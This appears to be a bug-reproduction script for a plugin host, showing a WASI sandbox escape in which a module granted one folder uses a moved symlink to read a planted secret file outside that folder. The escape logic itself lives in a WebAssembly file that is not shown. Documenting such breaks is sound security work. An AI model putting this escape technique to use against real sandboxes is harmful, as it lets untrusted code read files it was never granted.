// Break: a module granted one writable folder (preopened) reads a file outside it, with nothing placed by anyone
// else: it makes a link whose target stays inside where it is made, then moves the link's folder up, so the link leads
// out; Node's WASI follows it. Expected: WASI reaches only the granted folder. Run: node repro/wasi-tunnel.mjs [process]
import { mkdirSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { attackPlugin, createHost } from './lib.mjs';
const isolation = process.argv[2] === 'process' ? { requireIsolation: 'strict' } : {};
const { work, dir } = attackPlugin(
  { contributes: { commands: [{ command: 'attack.tunnel', title: 'tunnel' }, { command: 'attack.climb', title: 'climb' }] }, capabilities: { filesystem: { write: ['box'] } } },
  join(import.meta.dirname, 'wasi-escape/build/escape.wasm'),
);
mkdirSync(join(dir, 'box'));
writeFileSync(join(work, 'secret.txt'), 'TOP SECRET outside the grant');
const host = createHost({ devPaths: [dir], dataDir: join(work, 'data'), ...isolation });
await host.start();
console.log(`granted: ${join(dir, 'box')}; the secret: ${join(work, 'secret.txt')} (${basename(work)})`);
console.log('tunnel:', JSON.stringify(await host.executeCommand('attack.tunnel', 'secret.txt').catch((e) => e.message)));
console.log('climb:', JSON.stringify(await host.executeCommand('attack.climb', 'secret.txt').catch((e) => e.message)));
await host.stop();
